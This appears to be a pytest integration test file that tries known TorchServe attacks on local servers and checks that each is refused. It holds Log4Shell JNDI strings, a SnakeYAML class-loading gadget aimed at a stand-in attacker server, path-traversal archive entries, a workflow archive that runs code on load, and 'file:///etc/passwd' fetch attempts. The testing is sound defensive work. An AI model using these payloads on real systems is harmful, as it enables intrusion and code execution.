"""The attacks of docs/explanation/security.md, tried on running servers: every one is refused."""

from __future__ import annotations

import json
import os
import re
import select
import socket
import ssl
import threading
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import grpc
import httpx2
import psutil
import pytest
from cryptography import x509
from cryptography.hazmat.primitives.serialization import (
    BestAvailableEncryption,
    load_pem_private_key,
)
from cryptography.hazmat.primitives.serialization.pkcs12 import serialize_key_and_certificates

from marsmith.client.trust import trusting
from marsmith.project.project import Project
from marsmith.security.key_rotation import APIS, read_key
from marsmith.security.self_signed import new_certificate
from marsmith.server.lookup import connect
from marsmith.server.process import TorchServe
from marsmith.torchserve.ports import free_ports
from marsmith.torchserve.properties import parse_properties, with_ports
from tests.integration.kit import ROOT, Kit, wait_for
from tests.projects import ECHO_HANDLER, copy_echo

REFUSED = "Token Authorization failed"
MARKER = "owned"
WITHHELD = "no worker sees this"
HANDLER = "org.pytorch.serve.grpc."


@dataclass(frozen=True)
class Secured:
    """A server that asks for tokens, and how to ask it."""

    kit: Kit
    port: int

    def ask(
        self, offset: int, method: str, path: str, token: str | None = None, content: bytes = b""
    ) -> httpx2.Response:
        """Send a request to inference (offset 0), management (1) or metrics (2)."""
        headers = {"authorization": f"Bearer {token}"} if token is not None else {}
        url = f"http://127.0.0.1:{self.port + offset}{path}"
        return httpx2.request(
            method, url, headers=headers, content=content, trust_env=False, timeout=60
        )

    def token(self, api: str = "inference") -> str:
        """Return what `marsmith token` prints."""
        return self.kit("token", api, "--port", self.port).stdout.strip()

    @property
    def folder(self) -> Path:
        """TorchServe's temporary folder."""
        return Path(self.state["folder"])

    @property
    def state(self) -> dict[str, str]:
        """What `marsmith status` knows of it."""
        (state,) = (one for one in self.kit.json("status") if one["port"] == self.port)
        return dict(state)

    def processes(self) -> list[psutil.Process]:
        """Return `marsmith serve`, TorchServe and its workers."""
        supervisor = psutil.Process(int(self.state["pid"]))
        return [supervisor, *supervisor.children(recursive=True)]


@pytest.fixture(scope="module")
def secured(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Secured]:
    """A server as a stranger would start it, beside files of an attacker's in its model store."""
    kit = copy_echo(tmp_path_factory.mktemp("secured"))
    kit.write("handlers/echo.py", ECHO_HANDLER.replace("return", "print(data)\n        return"))
    kit("build")
    plant(kit.root)
    port = free_ports(5)
    environment = os.environ | {"AWS_SECRET_ACCESS_KEY": WITHHELD}
    kit("serve", "echo", "--secure", "--background", "--port", port, env=environment)
    yield Secured(kit, port)
    kit("stop", "--port", port)


Make = Callable[..., Kit]


@pytest.fixture
def make(tmp_path: Path) -> Iterator[Make]:
    """Make a project in tmp_path; what runs there at the end is stopped."""
    yield lambda config="": copy_echo(tmp_path, config)
    for state in Kit(tmp_path).json("status"):
        Kit(tmp_path)("stop", "--port", state["port"])


def plant(root: Path) -> None:
    """Put archives into the model store that attack when they are loaded."""
    store = root / "model_store"
    war(store / "evil.war", root / MARKER)
    mar(store / "slip.mar", {"../slipped": "", "../../slipped": "", "../../../slipped": ""})


def mar(path: Path, more: dict[str, str], config: str | None = None) -> None:
    model = {"modelName": path.stem, "modelVersion": "1.0", "handler": "handler.py"}
    manifest = {"runtime": "python", "model": model | ({"configFile": config} if config else {})}
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest))
        file.writestr("handler.py", "def handle(data, context):\n    return data\n")
        for name, text in more.items():
            file.writestr(name, text)


def war(path: Path, marker: Path) -> None:
    """Write a workflow archive whose code makes a file as soon as it is loaded."""
    workflow = {"workflowName": "evil", "specFile": "spec.yaml", "handler": "handler.py"}
    about = {"archiverVersion": "0.2.4", "createdOn": "01/01/2026 00:00:00"}
    spec = "models:\n  min-workers: 1\n  max-workers: 1\n  one:\n    url: echo.mar\n"
    spec += "dag:\n  before: [one]\n  one: [after]\n"
    code = f"open({str(marker)!r}, 'w').close()\n"
    code += "def before(data, context):\n    return data\n\n\nafter = before\n"
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("WAR-INF/MANIFEST.json", json.dumps(about | {"workflow": workflow}))
        file.writestr("spec.yaml", spec)
        file.writestr("handler.py", code)


@dataclass
class Attacker:
    """A web server of somebody else's, which notes who asks it."""

    url: str
    asked: list[str]


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        def log_message(self, *_: object) -> None:
            return

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield Attacker(f"http://127.0.0.1:{server.server_address[1]}", asked)
        server.shutdown()
        thread.join()


def test_each_attack_that_the_documentation_names_is_tried() -> None:
    named = re.findall(r"`(test_\w+)`", (ROOT / "docs" / "explanation" / "security.md").read_text())
    assert len(named) > 7
    assert set(named) - globals().keys() == set()


# ---- nobody without a token

ROUTES = """
    0 GET /ping
    0 GET /predictions/echo
    0 POST /predictions/echo
    0 PUT /predictions/echo/1.0
    0 POST /explanations/echo
    0 OPTIONS /predictions/echo
    0 POST /invocations
    0 POST /models/echo/invoke
    0 POST /wfpredict/evil
    0 GET /metrics
    0 GET /models
    0 GET /token?type=inference
    0 GET /v2/health/live
    0 GET /nothing
    1 GET /models
    1 HEAD /models
    1 GET /models/echo
    1 GET /models/echo/all
    1 GET /models/echo/1.0?customized=true
    1 POST /models?url=echo.mar
    1 POST //models?url=echo.mar
    1 POST /%6dodels?url=echo.mar
    1 PUT /models/echo?min_worker=2
    1 PUT /models/echo/1.0/set-default
    1 DELETE /models/echo
    1 DELETE /models/echo/1.0
    1 GET /workflows
    1 POST /workflows?url=evil.war
    1 GET /workflows/evil
    1 DELETE /workflows/evil
    1 POST /predictions/echo
    1 GET /ping
    1 GET /metrics
    1 GET /nothing
"""


@pytest.mark.parametrize("route", ROUTES.strip().splitlines())
def test_no_route_answers_without_a_token(secured: Secured, route: str) -> None:
    offset, method, path = route.split()
    answer = secured.ask(int(offset), method, path)
    assert answer.status_code == 400
    assert method == "HEAD" or REFUSED in answer.text


@pytest.mark.parametrize("api", ["inference", "management"])
def test_no_key_is_handed_out_but_for_the_key_to_keys(secured: Secured, api: str) -> None:
    before = (secured.folder / "key_file.json").read_text()
    for token in (None, "x", secured.token("inference"), secured.token("management")):
        answer = secured.ask(1, "GET", f"/token?type={api}", token)
        assert answer.status_code == 400
        assert "Token Auth" in answer.text
    assert (secured.folder / "key_file.json").read_text() == before


def test_a_token_opens_its_own_api_alone(secured: Secured) -> None:
    inference, management = secured.token(), secured.token("management")
    assert secured.ask(0, "POST", "/predictions/echo", inference).text == "right"
    assert secured.ask(1, "GET", "/models", management).status_code == 200
    for offset, path, token in ((0, "/predictions/echo", management), (1, "/models", inference)):
        for wrong in (token, token.swapcase(), "None", "null"):
            assert REFUSED in secured.ask(offset, "GET", path, wrong).text


@pytest.mark.parametrize("header", ["", "Bearer", "Basic {}", "bearer {}", "{}", "Bearer  {} x"])
def test_a_header_of_another_form_opens_nothing(secured: Secured, header: str) -> None:
    value = header.format(secured.token("management"))
    url = f"http://127.0.0.1:{secured.port + 1}/models"
    answer = httpx2.get(url, headers={"authorization": value}, trust_env=False, timeout=60)
    assert (answer.status_code, "echo" in answer.text) == (400, False)


@pytest.mark.parametrize("offset", [0, 1, 2])
def test_a_description_of_torchserve_is_all_that_anyone_gets(secured: Secured, offset: int) -> None:
    """It is the same everywhere: neither models nor settings of this server are in it."""
    for method, path in (("OPTIONS", "/"), ("GET", "/api-description")):
        answer = secured.ask(offset, method, path)
        assert answer.json()["info"]["title"] == "TorchServe APIs"
        assert "echo" not in answer.text


def test_the_metrics_port_serves_metrics_alone(secured: Secured) -> None:
    assert secured.ask(2, "GET", "/metrics").status_code == 200
    for method, path in (("GET", "/models"), ("POST", "/workflows?url=evil.war")):
        assert secured.ask(2, method, path).status_code == 404


METHODS = """
    3 inference.InferenceAPIsService/Ping
    3 inference.InferenceAPIsService/Predictions
    3 inference.InferenceAPIsService/StreamPredictions
    4 management.ManagementAPIsService/ListModels
    4 management.ManagementAPIsService/DescribeModel
    4 management.ManagementAPIsService/RegisterModel
    4 management.ManagementAPIsService/ScaleWorker
    4 management.ManagementAPIsService/SetDefault
    4 management.ManagementAPIsService/UnregisterModel
"""


@pytest.mark.parametrize("line", METHODS.strip().splitlines())
def test_grpc_answers_nobody_without_its_own_token(secured: Secured, line: str) -> None:
    offset, method = line.split()
    other = secured.token("management" if offset == "3" else "inference")
    with grpc.insecure_channel(f"127.0.0.1:{secured.port + int(offset)}") as channel:
        call = channel.unary_unary(f"/{HANDLER}{method}")
        for metadata in ((), (("authorization", f"Bearer {other}"),)):
            with pytest.raises(grpc.RpcError) as caught:
                call(b"", metadata=metadata, timeout=30)
            assert caught.value.code() == grpc.StatusCode.PERMISSION_DENIED
            assert REFUSED in caught.value.details()


def test_grpc_answers_with_a_token(secured: Secured) -> None:
    with grpc.insecure_channel(f"127.0.0.1:{secured.port + 4}") as channel:
        call = channel.unary_unary(f"/{HANDLER}management.ManagementAPIsService/ListModels")
        metadata = (("authorization", f"Bearer {secured.token('management')}"),)
        assert b'"models"' in call(b"", metadata=metadata, timeout=30)


def test_tokens_show_up_nowhere(secured: Secured) -> None:
    keys = json.loads((secured.folder / "key_file.json").read_text())
    secrets = [entry["key"] for entry in keys.values()]
    for process in psutil.process_iter():
        try:
            seen = " ".join([*process.cmdline(), *process.environ().values()])
        except psutil.Error:
            continue
        assert not any(secret in seen for secret in secrets)
    written = [p for p in (secured.kit.root / ".marsmith").rglob("*") if p.is_file()]
    assert len(written) > 3
    for path in written:
        assert not any(secret.encode() in path.read_bytes() for secret in secrets)


def test_the_key_file_is_its_owners_alone(secured: Secured) -> None:
    assert (secured.folder / "key_file.json").stat().st_mode & 0o777 == 0o600
    assert secured.folder.stat().st_mode & 0o777 == 0o700


def test_secrets_of_the_environment_end_at_marsmith(secured: Secured) -> None:
    supervisor, *others = secured.processes()
    assert supervisor.environ()["AWS_SECRET_ACCESS_KEY"] == WITHHELD
    assert len(others) >= 2
    assert [p for p in others if WITHHELD in p.environ().values()] == []


# ---- Marsmith itself


def test_the_kit_needs_no_token_from_its_user(secured: Secured) -> None:
    file = secured.kit.root / "archives.toml"
    assert secured.kit.json("predict", "echo", file)[0]["answer"] == "right"
    assert secured.kit.json("models", "--port", secured.port)[0]["name"] == "echo"


def test_a_token_comes_as_a_header_for_curl(secured: Secured) -> None:
    line = secured.kit("token", "management", "--header").stdout
    assert line == f"Authorization: Bearer {secured.token('management')}\n"


def test_keys_are_renewed_without_a_failed_request(make: Make) -> None:
    """Keys that live for 6 s, under load, until each was renewed three times."""
    kit = make("token_expiration_min=0.1\n")
    port = free_ports(5)
    kit("serve", "--secure", "--background", "--port", port)
    server = Secured(kit, port)
    key_file = server.folder / "key_file.json"
    first = server.token()
    statuses: Counter[int] = Counter()
    renewed = threading.Event()

    def load() -> None:
        with connect(Project(kit.root), port) as client:
            while not renewed.is_set():
                statuses[client.predict("echo", b"x").status] += 1
                assert client.models()[0].name == "echo"

    seen: dict[str, set[str]] = {"inference": set(), "management": set()}

    def all_renewed() -> bool:
        for api in APIS:
            seen[api].add(read_key(key_file, api).value)
        return all(len(keys) > 3 for keys in seen.values())

    with ThreadPoolExecutor() as pool:
        loads = [pool.submit(load) for _ in range(4)]
        try:
            wait_for(all_renewed, "keys to be renewed")
        finally:
            renewed.set()
        for one in loads:
            one.result()
    assert statuses.keys() == {200}
    assert REFUSED in server.ask(0, "GET", "/predictions/echo", first).text
    kit("stop")
    assert not key_file.exists()


def test_an_open_address_forces_tokens_and_says_so(make: Make) -> None:
    kit = make("inference_address=http://0.0.0.0:8080\n")
    port = free_ports(5)
    said = kit("serve", "--background", "--port", port)
    assert said.stderr.count(f"http://0.0.0.0:{port}") == 2
    assert "warning[open-address]" in said.stderr
    assert "warning[not-encrypted]" in said.stderr
    server = Secured(kit, port)
    assert REFUSED in server.ask(0, "POST", "/predictions/echo").text
    assert kit.json("predict", "echo", kit.root / "archives.toml")[0]["answer"] == "right"
    kit("stop")


def test_without_secure_there_is_no_token_to_print(make: Make) -> None:
    kit = make()
    kit("serve", "--background", "--port", free_ports(5))
    result = kit("token", check=False)
    kit("stop")
    assert (result.returncode, result.stdout) == (1, "")
    assert "error[tokens-off]" in result.stderr


# ---- TLS


def suite_of(port: int, *only: str) -> str:
    """Return the protocol and the suite that a port agrees to, of those that Python offers."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    if only:
        context.maximum_version = ssl.TLSVersion.TLSv1_2
        context.set_ciphers(":".join(only))
    plain = socket.create_connection(("127.0.0.1", port), 10)
    with context.wrap_socket(plain) as encrypted:
        name, _, _ = encrypted.cipher() or ("", "", 0)
        return f"{encrypted.version()} {name}"


def test_tls_by_a_certificate_made_for_it(make: Make, tmp_path: Path) -> None:
    kit = make()
    port = free_ports(5)
    printed = kit("serve", "--secure", "--tls", "--background", "--port", port).stdout
    certificate = tmp_path / ".marsmith" / "tls" / "development.pem"
    assert f"trust       {certificate}" in printed
    assert certificate.with_suffix(".key").stat().st_mode & 0o777 == 0o600
    assert kit.json("predict", "echo", tmp_path / "archives.toml")[0]["answer"] == "right"
    for offset in range(3):
        url = f"127.0.0.1:{port + offset}/metrics"
        trusted = trusting(certificate)
        assert httpx2.get(f"https://{url}", verify=trusted, trust_env=False).status_code < 500
        with pytest.raises(httpx2.ConnectError, match="CERTIFICATE_VERIFY_FAILED"):
            httpx2.get(f"https://{url}", trust_env=False)
        assert httpx2.get(f"http://{url}", trust_env=False).status_code == 403
    credentials = grpc.ssl_channel_credentials(certificate.read_bytes())
    for offset in range(3):
        assert suite_of(port + offset) == "TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256"
        with pytest.raises(ssl.SSLError):
            suite_of(port + offset, "ECDHE-RSA-AES128-SHA", "@SECLEVEL=0")
    for offset in (3, 4):  # gRPC
        assert suite_of(port + offset).startswith("TLSv1.3 ")
        with pytest.raises(ssl.SSLError):
            suite_of(port + offset, "ECDHE-RSA-AES128-SHA", "@SECLEVEL=0")
    token = kit("token", "management").stdout.strip()
    with grpc.secure_channel(f"127.0.0.1:{port + 4}", credentials) as channel:
        call = channel.unary_unary(f"/{HANDLER}management.ManagementAPIsService/ListModels")
        metadata = (("authorization", f"Bearer {token}"),)
        assert b'"models"' in call(b"", metadata=metadata, timeout=30)
    with grpc.insecure_channel(f"127.0.0.1:{port + 4}") as channel:
        call = channel.unary_unary(f"/{HANDLER}management.ManagementAPIsService/ListModels")
        with pytest.raises(grpc.RpcError):
            call(b"", metadata=metadata, timeout=30)
    kit("stop")


def test_tls_by_config_properties(make: Make, tmp_path: Path) -> None:
    kit = make()
    kit("certificate", "--out", tmp_path / "server", "--host", "models.example")
    config = "private_key_file=server.key\ncertificate_file=server.pem\n"
    config += "inference_address=https://127.0.0.1:8080\n"
    kit.write("config.properties", (tmp_path / "config.properties").read_text() + config)
    port = free_ports(5)
    printed = kit("serve", "--background", "--port", port).stdout
    assert f"predict     https://127.0.0.1:{port}/predictions/echo" in printed
    assert f"management  http://127.0.0.1:{port + 1}/models" in printed
    assert kit.json("predict", "echo", tmp_path / "archives.toml")[0]["answer"] == "right"
    kit("stop")


def test_tls_by_a_keystore(make: Make, tmp_path: Path) -> None:
    kit = make(
        "keystore=server.p12\nkeystore_pass=open sesame\ninference_address=https://127.0.0.1:8080\n"
    )
    key, certificate = new_certificate(tmp_path / "server")
    store = serialize_key_and_certificates(
        b"server",
        load_pem_private_key(key.read_bytes(), None),  # type: ignore[arg-type]
        x509.load_pem_x509_certificate(certificate.read_bytes()),
        None,
        BestAvailableEncryption(b"open sesame"),
    )
    (tmp_path / "server.p12").write_bytes(store)
    (tmp_path / "server.p12").chmod(0o600)
    port = free_ports(5)
    kit("serve", "--background", "--port", port)
    assert kit.json("predict", "echo", tmp_path / "archives.toml")[0]["answer"] == "right"
    written = tmp_path / ".marsmith" / "tls" / "keystore.pem"
    trusted = trusting(written)
    answer = httpx2.get(f"https://localhost:{port}/ping", verify=trusted, trust_env=False)
    assert answer.json() == {"status": "Healthy"}
    # A server that somebody else started is asked without writing into the project.
    written.rename(tmp_path / "aside.pem")
    connect(Project(tmp_path), port + 5).close()
    assert not written.exists()
    (tmp_path / "aside.pem").rename(written)


@pytest.mark.parametrize(
    ("config", "code"),
    [
        ("inference_address=https://127.0.0.1:8080\n", "no-certificate"),
        ("enable_grpc_ssl=true\nkeystore=keys.p12\n", "keystore-with-grpc"),
        ("inference_address=https://127.0.0.1:8080\nkeystore=keys.p12\n", "unreadable"),
        (
            "metrics_address=https://127.0.0.1:8082\nprivate_key_file=a\ncertificate_file=b\n",
            "unreadable",
        ),
    ],
)
def test_tls_that_cannot_be_is_told_before_anything_starts(
    make: Make, config: str, code: str
) -> None:
    result = make(config)("serve", "--port", free_ports(5), check=False)
    assert result.returncode == 1
    assert f"error[{code}]" in result.stderr


# ---- the advisories


def test_nothing_listens_for_other_machines(secured: Secured) -> None:
    """CVE-2024-35199: gRPC listened at every address."""
    places = [
        connection.laddr
        for process in secured.processes()
        for connection in process.net_connections("inet")
        if connection.status == psutil.CONN_LISTEN
    ]
    assert {place.port for place in places} == set(range(secured.port, secured.port + 5))
    assert {place.ip.removeprefix("::ffff:") for place in places} == {"127.0.0.1"}


URLS = [
    "{attacker}/evil.mar",
    "{attacker}/models/../evil.mar",
    "{attacker}/%2e%2e/evil.mar",
    "HTTP{attacker4}/evil.mar",
    "file://{store}/../../evil.mar",
    "file:///etc/passwd",
    "ftp{attacker4}/evil.mar",
    "../evil.mar",
    "..%2f..%2fevil.mar",
    "//{attacker7}/evil.mar",
]


@pytest.mark.parametrize("url", URLS)
@pytest.mark.parametrize("route", ["models", "workflows"])
def test_nothing_is_fetched_for_anyone(
    secured: Secured, attacker: Attacker, route: str, url: str
) -> None:
    """CVE-2023-43654, and CVE-2024-35198, which went round allowed_urls by `..`."""
    store = secured.kit.root / "model_store"
    before = sorted(path.name for path in store.iterdir())
    address = attacker.url
    url = url.format(attacker=address, attacker4=address[4:], attacker7=address[7:], store=store)
    path = f"/{route}?{httpx2.QueryParams(url=url)}"
    answer = secured.ask(1, "POST", path, secured.token("management"))
    assert answer.status_code >= 400
    assert attacker.asked == []
    assert sorted(path.name for path in store.iterdir()) == before


def test_an_archive_cannot_write_outside_its_folder(secured: Secured) -> None:
    """CVE-2023-48299: entries whose names climb out of the folder they are unpacked in."""
    answer = secured.ask(1, "POST", "/models?url=slip.mar", secured.token("management"))
    assert answer.json()["message"] == "Failed to save model: slip.mar"
    assert not any((folder / "slipped").exists() for folder in secured.folder.parents)
    assert list(secured.folder.rglob("slipped")) == []


def test_a_model_config_cannot_make_java_load_classes(secured: Secured, attacker: Attacker) -> None:
    """CVE-2022-1471: YAML tags that SnakeYAML built any class from."""
    tags = "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
    config = f'{tags}["{attacker.url}/"]]]]\n'
    path = secured.kit.root / "model_store" / "yaml.mar"
    mar(path, {"model-config.yaml": config}, config="model-config.yaml")
    token = secured.token("management")
    assert "yaml" in secured.ask(1, "POST", "/models?url=yaml.mar", token).text
    log = secured.kit.root / f".marsmith/servers/{secured.port}/server.log"
    assert "Failed to parse model config file model-config.yaml" in log.read_text()
    assert attacker.asked == []


def test_what_is_logged_is_not_looked_up(secured: Secured) -> None:
    """CVE-2021-44228: log4j asked any address that a logged text named."""
    log = secured.kit.root / f".marsmith/servers/{secured.port}/workers.log"
    with socket.create_server(("127.0.0.1", 0)) as listener:
        place = f"127.0.0.1:{listener.getsockname()[1]}"
        lookup = f"${{jndi:ldap://{place}/a}} ${{jndi:rmi://{place}/a}}"
        token = secured.token()
        answer = secured.ask(0, "POST", "/predictions/echo", token, content=lookup.encode())
        assert answer.text == "right"
        wait_for(lambda: lookup in log.read_text(), "the log")
        assert select.select([listener], [], [], 0)[0] == []


# ---- workflows, which no setting of TorchServe turns off

WORKFLOWS = ["evil.war", "../model_store/evil.war", "file://{store}/evil.war", "./evil.war", ""]


@pytest.mark.parametrize("url", WORKFLOWS)
def test_workflows_are_closed_even_to_those_with_a_token(secured: Secured, url: str) -> None:
    url = url.format(store=secured.kit.root / "model_store")
    token = secured.token("management")
    answer = secured.ask(1, "POST", f"/workflows?{httpx2.QueryParams(url=url)}", token)
    assert answer.status_code >= 400
    assert secured.ask(1, "GET", "/workflows", token).json() == {"workflows": []}
    assert not (secured.kit.root / MARKER).exists()


def test_without_tokens_they_are_closed_too(make: Make) -> None:
    kit = make()
    plant(kit.root)
    port = free_ports(5)
    kit("serve", "echo", "--background", "--port", port)
    server = Secured(kit, port)
    assert server.ask(1, "POST", "/models?url=echo.mar").status_code == 405
    assert server.ask(1, "POST", "/workflows?url=evil.war").status_code == 404
    assert server.ask(1, "GET", "/workflows").json() == {"workflows": []}
    kit("stop")
    assert not (kit.root / MARKER).exists()


@pytest.mark.parametrize("config", ["", (ROOT / "config.properties").read_text()])
def test_torchserve_itself_needs_our_config_properties_to_close_them(
    make: Make, tmp_path: Path, config: str
) -> None:
    """Without it, the attack above succeeds: what is tried there is a real one."""
    kit = make()
    plant(kit.root)
    port = free_ports(5)
    open_to_all = parse_properties(config) | {"disable_token_authorization": "true"}
    store = Project(kit.root).model_store
    server = TorchServe(
        with_ports(open_to_all, port), store, {"echo": "echo.mar"}, tmp_path / "logs"
    )
    server.start()
    try:
        asked = Secured(kit, port)
        wait_for(lambda: answers(port + 1) and "echo" in asked.ask(1, "GET", "/models").text, "it")
        answer = asked.ask(1, "POST", "/workflows?url=evil.war")
        assert (answer.status_code == 200) is (config == "")
        if config == "":
            wait_for((kit.root / MARKER).exists, "the attack")
        assert (kit.root / MARKER).exists() is (config == "")
    finally:
        server.stop()


def answers(port: int) -> bool:
    with socket.socket() as probe:
        return probe.connect_ex(("127.0.0.1", port)) == 0
